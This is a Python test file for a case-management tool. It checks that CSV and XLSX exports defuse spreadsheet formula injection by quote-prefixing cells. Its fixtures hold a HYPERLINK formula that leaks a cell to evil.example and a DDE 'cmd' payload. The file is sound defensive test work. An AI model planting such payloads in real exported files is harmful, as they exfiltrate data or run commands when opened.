"""Files the office opens are safe, and they read as people read (SPEC §16).

A title ``=HYPERLINK(…)``, a unit ``=1+1`` and a note ``=cmd|…`` reach every CSV and XLSX a
reviewer opens — `case list --format csv`, the audit export, the reports — written with a
leading ``'`` (OWASP CSV injection), read back here with the csv module and openpyxl. The
audit CSV and XLSX carry each event's title and unit and a label beside every identifier;
the parallel export writes the very bytes of the sequential one with real cases labelled.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from duban.clock import ManualClock
from duban.exports.events import AuditFilter
from duban.service.app import App
from duban.service.reviews import Reviews
from duban.storage.database import Database
from tests.conftest import Duban

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
UNIT = "=1+1"
NOTE = "=cmd|' /C calc'!A0"
OTHERS = ["+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]  # every start OWASP names
TZ = ZoneInfo("Asia/Shanghai")


@pytest.fixture
def hostile(duban: Duban) -> Duban:
    """A case titled, led and noted with formulas, taken through the main path and an escalation."""
    duban.ok("user", "add", "evil", "--role", "unit", "--unit", UNIT)  # adds the unit to the directory
    duban.ok("case", "open", "supervision", "--title", TITLE, "--unit", UNIT, "--due", "2026-03-13",
             now="2026-03-02T09:00", actor="wang")
    duban.ok("case", "fire", "1", "accept", "--note", NOTE, now="2026-03-02T10:00", actor="evil")
    for i, text in enumerate(OTHERS):
        duban.ok("case", "fire", "1", "report_progress", "--note", text, now=f"2026-03-03T1{i}:00", actor="evil")
    duban.ok("tick", now="2026-03-20T09:00")
    duban.ok("case", "fire", "1", "report", "--note", "已办结", now="2026-03-20T10:00", actor="evil")
    return duban


def read_csv(text: str) -> list[dict[str, str]]:
    """The report's own table: a report file ends with a 【审计检查点】 block after a blank row."""
    assert text.startswith("\ufeff")
    table = text.removeprefix("\ufeff").split("【审计检查点】")[0].rstrip("\r\n") + "\r\n"
    return list(csv.DictReader(io.StringIO(table, newline="")))


def all_cells(path: Path) -> list[Any]:
    from openpyxl import load_workbook

    book = load_workbook(path)
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


def no_formula_anywhere(path: Path) -> None:
    """No cell of the workbook is a formula, and no text cell begins one."""
    cells = all_cells(path)
    assert cells
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r" and c.value != "-"] == []


class TestCaseList:
    def test_csv_cells_are_text(self, hostile: Duban) -> None:
        """`case list --format csv`: the title and the unit come back with a leading ', everything else as it was."""
        rows = read_csv(hostile.ok("case", "list", "--format", "csv").stdout)
        assert (rows[0]["标题"], rows[0]["牵头单位"]) == ("'" + TITLE, "'" + UNIT)
        assert rows[0]["编号"] == "1" and rows[0]["状态"] == "已报告"
        # scripts still get the value as typed
        assert hostile.ok("case", "list", "--json").json[0]["title"] == TITLE


class TestAuditExport:
    def test_csv_defuses_and_labels(self, hostile: Duban, tmp_path: Path) -> None:
        """The audit CSV: formulas defused in title, unit and notes; labels beside identifiers; title and unit per event."""
        path = tmp_path / "audit.csv"
        hostile.ok("audit", "export", "--format", "csv", "--out", str(path), now="2026-04-01T09:00")
        rows = [r for r in read_csv(path.read_bytes().decode("utf-8")) if r["案件编号"] == "1"]  # a CR kept as written
        assert {(r["标题"], r["牵头单位"]) for r in rows} == {("'" + TITLE, "'" + UNIT)}
        notes = [r["说明"] for r in rows if r["操作代码"] == "report_progress"]
        assert notes == ["'" + t for t in OTHERS]
        accepted = next(r for r in rows if r["操作代码"] == "accept")
        assert accepted["说明"] == "'" + NOTE
        assert (accepted["操作"], accepted["原状态"], accepted["原状态代码"], accepted["新状态"]) == (
            "签收", "已交办", "assigned", "办理中")
        assert (accepted["角色"], accepted["角色代码"], accepted["动作"], accepted["动作代码"]) == (
            "承办单位", "unit", "操作", "fire")
        escalated = next(r for r in rows if r["动作代码"] == "escalate")
        assert (escalated["动作"], escalated["角色"], escalated["操作"]) == ("升级督办", "系统", "")

    def test_jsonl_keeps_what_was_typed(self, hostile: Duban, tmp_path: Path) -> None:
        """JSONL is the record, not a spreadsheet: the note exactly as typed, and it re-verifies."""
        import json

        path = tmp_path / "audit.jsonl"
        hostile.ok("audit", "export", "--format", "jsonl", "--out", str(path), now="2026-04-01T09:00")
        notes = [json.loads(line)["note"] for line in path.read_text(encoding="utf-8").splitlines()]
        assert NOTE in notes and all(t in notes for t in OTHERS)
        assert hostile.ok("audit", "verify", "--file", str(path)).code == 0

    def test_xlsx_defuses_and_labels(self, hostile: Duban, tmp_path: Path) -> None:
        """The audit XLSX: no formula cell, the hostile texts as text with a leading ', the label columns filled."""
        from openpyxl import load_workbook

        path = tmp_path / "audit.xlsx"
        hostile.ok("audit", "export", "--format", "xlsx", "--out", str(path), now="2026-04-01T09:00")
        no_formula_anywhere(path)
        ws = load_workbook(path)["审计日志"]
        header = [c.value for c in ws[1]]
        rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in ws.iter_rows(min_row=2)]
        accepted = next(r for r in rows if r["操作代码"] == "accept")
        assert (accepted["标题"], accepted["牵头单位"], accepted["说明"]) == ("'" + TITLE, "'" + UNIT, "'" + NOTE)
        assert (accepted["操作"], accepted["新状态"], accepted["新状态代码"]) == ("签收", "办理中", "in_progress")

    def test_parallel_export_is_the_sequential_one_with_labels(self, hostile: Duban, tmp_path: Path) -> None:
        """Labelled from real cases, the CSV written by two worker processes is the sequential file, byte for byte."""
        db = Database(hostile.db_url)
        try:
            app = App(db, ManualClock(datetime(2026, 4, 1, 9, tzinfo=TZ)), TZ)
            for filters in (AuditFilter(), AuditFilter(case_id=1)):
                one, two = tmp_path / "one.csv", tmp_path / "two.csv"
                first = Reviews(app).export_audit(one, "csv", filters, jobs=1)
                second = Reviews(app).export_audit(two, "csv", filters, jobs=2, parallel_from=1)
                assert one.read_bytes() == two.read_bytes()
                assert (first.sha256, first.rows) == (second.sha256, second.rows)
                assert "签收" in one.read_text(encoding="utf-8") and "'" + UNIT in one.read_text(encoding="utf-8")
        finally:
            db.dispose()


class TestReports:
    def test_report_csv_defuses_units_and_titles(self, hostile: Duban) -> None:
        """`report units --format csv` and `report accountability --format csv`: the unit and title as text."""
        units = read_csv(hostile.ok("report", "units", "--format", "csv", now="2026-04-01T09:00").stdout)
        assert [r["牵头单位"] for r in units] == ["'" + UNIT]
        assert units[0]["案件数"] == "1"  # numbers untouched
        brief = hostile.ok("report", "accountability", "--case", "1", "--format", "csv", now="2026-04-01T09:00").stdout
        blocks = brief.removeprefix("\ufeff").replace("\r\n", "\n").split("\n\n")  # 【section】 blocks
        cases = list(csv.DictReader(io.StringIO(blocks[0].split("\n", 1)[1], newline="")))
        assert (cases[0]["标题"], cases[0]["牵头单位"], cases[0]["办结时间"]) == ("'" + TITLE, "'" + UNIT, "-")

    def test_report_xlsx_has_no_formula(self, hostile: Duban, tmp_path: Path) -> None:
        """The XLSX of the units report and of the 问责专报: no formula cell, the hostile texts kept as text."""
        for name, args in (("units", []), ("accountability", ["--case", "1"])):
            path = tmp_path / f"{name}.xlsx"
            hostile.ok("report", name, *args, "--format", "xlsx", "--out", str(path), now="2026-04-01T09:00")
            no_formula_anywhere(path)
            texts = {c.value for c in all_cells(path) if isinstance(c.value, str)}
            assert "'" + UNIT in texts or any(t.startswith("'" + UNIT) for t in texts)
